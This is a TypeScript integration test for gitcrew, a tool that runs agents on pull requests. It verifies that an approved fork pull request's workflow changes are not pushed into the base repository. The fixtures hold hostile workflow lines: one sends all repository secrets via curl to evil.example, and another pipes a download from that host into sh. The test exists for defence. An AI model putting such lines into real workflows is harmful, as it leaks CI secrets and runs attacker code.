/**
 * Attack (a fork's author, once a maintainer approved their head): the fork's
 * pull request changes `.github/workflows` (`on: push`, a self-hosted runner,
 * the repository's secrets). An approved run works on exactly that head, on a
 * branch of the base repository (`gitcrew/<agent>/<pull>-<sha7>`), and gitcrew
 * pushes that branch with its own credential. The runner keeps the agent's
 * own commit from changing workflows, but only relative to the run's start,
 * the fork's commit: the pushed branch carried the fork's workflow into the
 * base repository, where GitHub runs it on the push with the base
 * repository's secrets.
 *
 * Without `workflows: write`, a branch is pushed only when its workflow files
 * are already on the repository as they are (the default branch's, the
 * branch's own on origin, or a same-repository pull request's head); the
 * thread says why nothing was pushed.
 *
 * Real git (a bare origin and a clone), the real runner and container, the
 * GitHub double.
 */
import { execFileSync } from "node:child_process";
import { rm } from "node:fs/promises";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { GitHubClient } from "../../src/github/index.js";
import { executeJob } from "../../src/pipeline/execute.js";
import type { RunJob } from "../../src/pipeline/types.js";
import { Runner } from "../../src/runner/runner.js";
import { pushCommit } from "../support/github-double/index.js";
import { requireDockerAndImage, tempHome } from "../support/runner-harness.js";
import { makeWorld, type World } from "../integration/approvals-fixture.js";

const CI = "name: ci\non: [pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n";
const PWN = "on: push\njobs:\n  x:\n    runs-on: [self-hosted]\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://evil.example\n";

const FILES: Record<string, string> = {
  "README.md": "# widgets\n",
  ".github/workflows/ci.yml": CI,
  ".gitcrew/crew.cue": 'approvers: users: ["alice"]\n',
  ".gitcrew/agents/dev/agent.yaml": `runtime: command
command: ["sh", "-c", "printf 'fixed\\\\n' >> README.md; gitcrew-return done"]
allow:
  permission: write
limits:
  timeout: 2m
  network: none
permissions:
  contents: write
  issues: write
  pull_requests: write
`,
  ".gitcrew/agents/dev/instructions.md": "Fix the README.\n",
};

/** The double has no forks: these PRs are presented as coming from mallory/widgets, as GitHub would. */
function forkClient(forks: Set<number>) {
  return (gh: GitHubClient): GitHubClient => ({
    ...gh,
    async getPullRequest(repo, n) {
      const pr = await gh.getPullRequest(repo, n);
      if (!forks.has(n)) return pr;
      const p = structuredClone(pr) as unknown as { head: { repo: Record<string, unknown> } };
      p.head.repo = { ...p.head.repo, full_name: "mallory/widgets", name: "widgets", owner: { ...(p.head.repo.owner as object), login: "mallory" } };
      return p as unknown as typeof pr;
    },
  });
}

const show = (w: World, ref: string, path: string) => {
  try {
    return execFileSync("git", ["--git-dir", w.env.bareDir, "show", `${ref}:${path}`], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });
  } catch {
    return undefined;
  }
};
const hasBranch = (w: World, branch: string) => {
  try {
    execFileSync("git", ["--git-dir", w.env.bareDir, "rev-parse", "--verify", "--quiet", `refs/heads/${branch}`], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
};

describe("workflow files on the head an approved run starts from", () => {
  let w: World;
  let runner: Runner;
  let home: string;
  const forks = new Set<number>();

  beforeAll(async () => {
    await requireDockerAndImage();
    home = tempHome();
    w = await makeWorld({ files: FILES, client: forkClient(forks) });
    runner = await Runner.start({ env: { ...process.env, GITCREW_HOME: home } });
    w.s.runner = runner;
  }, 120_000);
  afterAll(async () => {
    await runner?.close();
    await w?.close();
    if (home) await rm(home, { recursive: true, force: true });
  });
  afterEach(() => w.env.double.assertNoViolations());

  const comments = (n: number) => w.env.double.comments(w.env.fullName, n).map((c) => c.body);

  /** mallory's fork PR with `files`, her request refused, alice's /approve: the approved job. */
  async function approvedForkJob(branch: string, files: Record<string, string>): Promise<{ number: number; head: string; job: RunJob }> {
    const head = await pushCommit(w.env.bareDir, branch, files, "a feature", "main");
    const { data } = await w.env.double.octokit("mallory").pulls.create({ ...w.rid, head: branch, base: "main", title: "Feature", body: "A feature" });
    forks.add(data.number);
    const ask = w.env.double.addComment(w.env.fullName, data.number, "mallory", "@dev please fix the readme");
    expect((await w.deliver("issue_comment", ask.payload)).jobs).toHaveLength(0);
    const approve = w.env.double.addComment(w.env.fullName, data.number, "alice", "/approve");
    const job = (await w.deliver("issue_comment", approve.payload)).jobs[0];
    expect(job?.planned.pinnedHead).toEqual({ pull: data.number, sha: head });
    return { number: data.number, head, job: job! };
  }

  it("a fork head that adds or changes workflows: its branch is not pushed, no PR is opened, the thread says why", async () => {
    const { number, head, job } = await approvedForkJob("fork-pwn", { ".github/workflows/pwn.yml": PWN, ".github/workflows/ci.yml": `${CI}      - run: curl https://evil.example | sh\n`, "src/a.ts": "export const a = 1;\n" });
    const report = await executeJob(w.s, job);
    const branch = `gitcrew/dev/${number}-${head.slice(0, 7)}`;
    expect(report.result?.branch).toBe(branch);
    expect(report.result?.changedFiles).toEqual(["README.md"]);

    // Nothing of it reached the repository: no branch, no pull request from it.
    expect(hasBranch(w, branch)).toBe(false);
    expect(show(w, branch, ".github/workflows/pwn.yml")).toBeUndefined();
    expect(report.pullRequest).toBeUndefined();
    const pulls = (await w.env.double.octokit("alice").pulls.list({ ...w.rid, state: "all" })).data;
    expect(pulls.map((p) => p.head.ref)).not.toContain(branch);

    const final = comments(number).find((b) => b.includes("gitcrew:origin agent=dev") && b.includes("was not pushed")) ?? "";
    expect(final).toContain("`.github/workflows/pwn.yml`");
    expect(final).toContain("`.github/workflows/ci.yml`");
    expect(final).toContain("workflows: write");
  }, 180_000);

  it("a fork head that leaves workflows as the default branch has them: pushed as before", async () => {
    const { number, head, job } = await approvedForkJob("fork-plain", { "src/b.ts": "export const b = 1;\n" });
    const report = await executeJob(w.s, job);
    const branch = `gitcrew/dev/${number}-${head.slice(0, 7)}`;
    expect(report.error).toBeUndefined();
    expect(hasBranch(w, branch)).toBe(true);
    expect(show(w, branch, "README.md")).toBe("# widgets\nfixed\n");
    expect(show(w, branch, ".github/workflows/ci.yml")).toBe(CI);
  }, 180_000);

  it("someone's same-repository PR that changes a workflow: the agent's branch keeps that PR's workflows and is pushed", async () => {
    // bob (write) pushed the branch himself: its workflows are on the repository already.
    const bobs = `${CI}      - run: npm run lint\n`;
    await pushCommit(w.env.bareDir, "bob-lint", { ".github/workflows/ci.yml": bobs }, "lint in CI", "main");
    const { data } = await w.env.double.octokit("bob").pulls.create({ ...w.rid, head: "bob-lint", base: "main", title: "Lint", body: "" });
    const ask = w.env.double.addComment(w.env.fullName, data.number, "bob", "@dev please fix the readme");
    const job = (await w.deliver("issue_comment", ask.payload)).jobs[0]!;
    expect(job.planned.ref).toBe("bob-lint");
    const report = await executeJob(w.s, job);
    expect(report.error).toBeUndefined();
    const branch = `gitcrew/dev/${data.number}`;
    expect(show(w, branch, "README.md")).toBe("# widgets\nfixed\n");
    expect(show(w, branch, ".github/workflows/ci.yml")).toBe(bobs);
  }, 180_000);
});
